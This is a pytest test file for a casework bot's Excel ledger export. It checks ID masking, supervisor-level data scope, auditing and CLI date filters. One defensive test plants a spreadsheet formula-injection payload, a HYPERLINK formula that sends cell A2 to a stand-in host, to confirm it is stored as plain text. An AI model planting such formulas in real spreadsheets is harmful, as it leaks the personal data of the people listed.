"""/export and `bangfu export`: the ledger workbook opened with openpyxl and checked against
values written out by hand; masking, frozen header, filters; scope at every supervisor level."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from bot.main import main
from storage.models import Gap, Role
from storage.repo import audit, households
from tests import factories
from tests.casework.conftest import SUPERVISOR, WORKER, Team, texts

TOWN_SUPERVISOR, CITY_SUPERVISOR = 203, 204
SHEETS = ["户籍台账", "走访记录", "跟进事项", "应享未享"]
FULL_ID = re.compile(r"\d{17}[\dXx]")  # an unmasked 身份证号: never in the file


def _seed(team: Team) -> dict[str, int]:
    """Town and city supervisors; marker households in a neighbouring town (聂家满族乡) and
    another county of the city (铁岭县); a visit at 07:30 Shanghai on 12月1日 (still 11月30日
    in UTC); gaps: one open, one received, one that no longer applies."""
    regions = team.svc.kb.regions
    with team.svc.transaction() as s:
        factories.user(s, TOWN_SUPERVISOR, Role.SUPERVISOR, name="镇主任",
                       home="qinghe-zhangxiang")
        factories.user(s, CITY_SUPERVISOR, Role.SUPERVISOR, name="市主任", home="tieling")
        niejia = factories.village(s, regions, "qinghe-niejia", "聂家村")
        county = factories.village(s, regions, "tieling-county", "铁岭县村")
        factories.household(s, niejia, "聂家标记户")
        factories.household(s, county, "铁岭县标记户")
        first = households.get(session=s, household_id=team.mine[0].id or 0)
        assert first is not None
        factories.visit(s, first, WORKER, at=dt.datetime(2026, 11, 30, 23, 30, tzinfo=dt.UTC),
                        kind="帮扶措施落实", notes="送药，约好下周复查")
        child = next(m for m in households.members(session=s, household_id=first.id or 0)
                     if m.name == "张小红")
        found = dt.datetime(2026, 11, 20, 1, 0, tzinfo=dt.UTC)
        s.add(Gap(household_id=first.id or 0, entry_id="qinghe-2020-industry-fund-new-poor",
                  found_at=found))
        s.add(Gap(household_id=first.id or 0, entry_id="qinghe-2020-agri-tech-training",
                  member_id=child.id, found_at=found, resolution="received",
                  resolved_at=dt.datetime(2026, 11, 25, 8, 0, tzinfo=dt.UTC)))
        s.add(Gap(household_id=first.id or 0, entry_id="qinghe-2020-dibao-income-line-4400",
                  found_at=found, resolution="not_applicable", resolved_at=found))
    return {"child": child.id or 0}


def _rows(wb: Workbook, sheet: str) -> list[tuple[object, ...]]:
    return [tuple(r) for r in wb[sheet].iter_rows(values_only=True)]


async def _export(team: Team, user_id: int) -> tuple[Workbook, bytes, str]:
    chat = team.chat(user_id)
    reply = texts(await chat.send("/export"))
    files = [f for f in team.api.sent_files if f.chat_id == user_id]
    assert files, reply
    content = files[-1].content
    return load_workbook(io.BytesIO(content)), content, files[-1].filename


async def test_a_supervisor_gets_the_ledger_with_hand_checked_values(team: Team) -> None:
    ids = _seed(team)
    wb, _, filename = await _export(team, TOWN_SUPERVISOR)
    assert wb.sheetnames == SHEETS and filename == "台账-张相镇-20261202.xlsx"
    zhang, li, wang, zhao = (*team.mine, team.others)
    people = _rows(wb, "户籍台账")
    assert people[0][:12] == ("户编号", "户主姓名", "县区", "乡镇", "行政村", "城乡", "家庭类别",
                              "人均纯收入", "住房情况", "联系电话", "帮扶责任人", "档案状态")
    assert people[0][12:] == ("姓名", "与户主关系", "证件号码（脱敏）", "性别", "出生日期",
                              "在校生状况", "是否住校", "残疾等级", "健康状况")
    by_name = {r[12]: r for r in people[1:]}
    assert len(people) == 1 + 5  # 张小明 and 张小红, 李大爷, 王芳, 赵四
    assert by_name["张小明"][:12] == (zhang.code, "张小明", "清河区", "张相镇", "大堡村", "农村",
                                     "建档立卡贫困户", None, None, "13800001111", "张干部",
                                     "正常")
    assert by_name["张小明"][13:] == ("户主", by_name["张小明"][14], None,
                                     dt.datetime(1978, 6, 1), None, None, None, "长期慢性病")
    assert by_name["张小红"][13:] == ("之女", by_name["张小红"][14], None,
                                     dt.datetime(2013, 3, 1), "小学", "否", None, "健康")
    assert by_name["赵四"][10] == "王干部" and by_name["李大爷"][0] == li.code
    codes = [str(r[0]) for r in people[1:]]
    assert codes == sorted(codes)  # by 户编号
    assert [r[12] for r in people[1:] if r[0] == zhang.code] == ["张小明", "张小红"]  # 户主 first
    assert all(re.fullmatch(r"211204\*{8}\d{4}", str(r[14])) for r in people[1:])

    visits = _rows(wb, "走访记录")
    assert visits[0] == ("户编号", "户主姓名", "行政村", "走访时间", "走访方式", "帮扶干部",
                         "情况记录", "发现需求", "情况变化", "照片", "位置")
    assert visits[1:] == [
        (li.code, "李大爷", "大堡村", dt.datetime(2026, 10, 23, 10, 0), "入户走访", "张干部",
         None, None, None, None, None),
        (wang.code, "王芳", "大堡村", dt.datetime(2026, 11, 29, 10, 0), "入户走访", "张干部",
         None, None, None, None, None),
        (zhang.code, "张小明", "大堡村", dt.datetime(2026, 12, 1, 7, 30), "帮扶措施落实",
         "张干部", "送药，约好下周复查", None, None, None, None)]
    followups = _rows(wb, "跟进事项")
    assert followups == [
        ("户编号", "户主姓名", "行政村", "跟进事项", "负责人", "到期日", "状态", "登记时间",
         "办结时间", "备注"),
        (zhang.code, "张小明", "大堡村", "帮忙申请慢病卡", "张干部", dt.datetime(2026, 11, 28),
         "待办", dt.datetime(2026, 12, 2, 10, 0), None, None)]
    gaps = _rows(wb, "应享未享")
    assert gaps == [
        ("户编号", "户主姓名", "行政村", "成员", "应享政策", "政策文件", "发现时间", "状态",
         "落实时间"),
        (zhang.code, "张小明", "大堡村", "张小红", "农业技术培训和现场技术指导",
         "《清河区2020年脱贫攻坚工作实施方案》第三部分(一)1，2020年",
         dt.datetime(2026, 11, 20, 9, 0), "已享受", dt.datetime(2026, 11, 25, 16, 0)),
        (zhang.code, "张小明", "大堡村", None, "新识别贫困人口人均注入产业扶贫资金2万元以上",
         "《清河区2020年脱贫攻坚工作实施方案》第三部分(一)1，2020年",
         dt.datetime(2026, 11, 20, 9, 0), "未享受", None)]
    assert ids["child"] and zhao.code in {r[0] for r in people}


async def test_the_file_has_frozen_headers_filters_widths_and_no_full_id(team: Team) -> None:
    _seed(team)
    wb, content, _ = await _export(team, SUPERVISOR)
    for name, columns in zip(SHEETS, (21, 11, 10, 9), strict=True):
        ws = wb[name]
        assert ws.freeze_panes == "A2", name
        last = chr(ord("A") + columns - 1)
        assert ws.auto_filter.ref == f"A1:{last}{ws.max_row}", name
        assert ws["A1"].font.b and ws.column_dimensions["A"].width == 14
        assert ws.max_column == columns
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))
    assert not FULL_ID.search(xml) and "211204********" in xml


async def test_text_that_looks_like_a_formula_stays_text(team: Team) -> None:
    planted = '=HYPERLINK("http://example.invalid/?"&A2,"点我")'
    with team.svc.transaction() as s:
        first = households.get(session=s, household_id=team.mine[0].id or 0)
        assert first is not None
        factories.visit(s, first, WORKER, at=dt.datetime(2026, 11, 30, 2, 0, tzinfo=dt.UTC),
                        notes=planted)
    wb, content, _ = await _export(team, SUPERVISOR)
    cells = [c for row in wb["走访记录"].iter_rows() for c in row if c.value == planted]
    assert cells and all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert "<f>" not in "".join(z.read(n).decode() for n in z.namelist()
                                    if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize(("user_id", "inside", "outside"), [
    (TOWN_SUPERVISOR, {"张小明", "赵四"}, {"聂家标记户", "铁岭县标记户", "陈阿婆"}),
    (SUPERVISOR, {"张小明", "赵四", "聂家标记户"}, {"铁岭县标记户", "陈阿婆"}),
    (CITY_SUPERVISOR, {"张小明", "聂家标记户", "铁岭县标记户"}, {"陈阿婆"}),
])
async def test_every_supervisor_level_gets_nothing_from_outside_its_region(
        team: Team, user_id: int, inside: set[str], outside: set[str]) -> None:
    _seed(team)
    wb, _, _ = await _export(team, user_id)
    cells = {str(v) for name in SHEETS for r in _rows(wb, name) for v in r if v is not None}
    assert inside <= cells and not outside & cells


async def test_a_caseworker_gets_only_their_own_households(team: Team) -> None:
    _seed(team)
    wb, _, filename = await _export(team, WORKER)
    names = {r[1] for r in _rows(wb, "户籍台账")[1:]}
    assert names == {"张小明", "李大爷", "王芳"} and filename.startswith("台账-张干部-")
    assert "13800001111" in {r[9] for r in _rows(wb, "户籍台账")}  # their own household


async def test_progress_message_is_edited_when_done_and_the_export_is_audited(
        team: Team) -> None:
    reply = await team.supervisor.send("/export")
    assert "正在生成" not in reply[-1]["text"] and "台账已生成" in reply[-1]["text"]
    assert "户籍台账：5 行" in reply[-1]["text"]  # 张小明 (2 people), 李大爷, 王芳, 赵四
    edits = [c for c in team.api.calls if c.method == "editMessageText"]
    assert edits and "正在生成" in str(team.api.sent()[0]["text"])
    with team.svc.db() as s:
        row = audit.entries(session=s, actor_id=SUPERVISOR)[0]
    assert row.action == "ledger.export" and row.after and row.after["户籍台账"] == 5
    assert (row.object_type, row.object_id) == ("ledger", "qinghe")  # as bangfu export writes


async def test_residents_are_refused_and_the_refusal_audited(team: Team) -> None:
    assert "只对帮扶干部和主管领导开放" in texts(await team.resident.send("/export"))
    assert not team.api.sent_files
    with team.svc.db() as s:
        assert audit.entries(session=s, actor_id=301)[0].action == "refused:command.export"


def test_the_command_line_writes_the_same_ledger_for_a_period(
        team: Team, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    _seed(team)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", team.svc.settings.database_url)
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    out = tmp_path / "ledger.xlsx"
    code = main(["export", "--region", "张相镇", "--out", str(out), "--from", "2026-11-01",
                 "--to", "2026-11-30"])
    printed = capsys.readouterr().out
    assert code == 0 and "走访记录：1 行" in printed, printed
    wb = load_workbook(out)
    # 11月29日 in; 12月1日 07:30 Shanghai is out although it is still 11月30日 in UTC
    assert [r[1] for r in _rows(wb, "走访记录")[1:]] == ["王芳"]
    assert [r[3] for r in _rows(wb, "跟进事项")[1:]] == ["帮忙申请慢病卡"]  # due 11月28日
    assert {r[9] for r in _rows(wb, "户籍台账")[1:]} == {None}  # phones only with --phones
    assert main(["export", "--region", "qinghe", "--out", str(out), "--phones"]) == 0
    assert "13800001111" in {r[9] for r in _rows(load_workbook(out), "户籍台账")}
    assert main(["export", "--region", "火星区", "--out", str(out)]) == 2
    assert "未知地区" in capsys.readouterr().err
    assert main(["export", "--region", "清河区", "--out", str(out), "--from", "11月1日"]) == 2
    assert main(["export", "--region", "清河区", "--out", str(out), "--from", "2026-12-01",
                 "--to", "2026-11-01"]) == 2
